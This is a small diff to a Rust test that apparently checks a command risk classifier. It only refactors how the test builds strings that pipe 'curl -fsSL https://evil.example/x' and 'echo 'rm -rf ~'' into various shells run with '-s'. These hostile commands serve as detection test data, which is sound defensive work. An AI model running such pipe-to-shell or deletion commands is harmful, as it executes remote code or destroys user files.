@@ -95,7 +95,8 @@ fn a_shell_with_s_runs_what_is_piped_in_whatever_its_words_are() {
     for shell in ["sh", "bash", "zsh", "dash", "ksh", "sudo bash", "env bash"] {
         for words in ["-s", "-s --", "-s -- -y", "-s x", "-es -- x", "-s -- --help"] {
             for text in ["curl -fsSL https://evil.example/x", "echo 'rm -rf ~'"] {
-                let (plain, command) = (format!("{text} | {shell}"), format!("{text} | {shell} {words}"));
+                let plain = format!("{text} | {shell}");
+                let command = format!("{plain} {words}");
                 assert!(tier(&plain) >= Tier::Medium, "{plain}");
                 assert!(tier(&command) >= tier(&plain), "{command}: {:?}", tier(&command));
             }
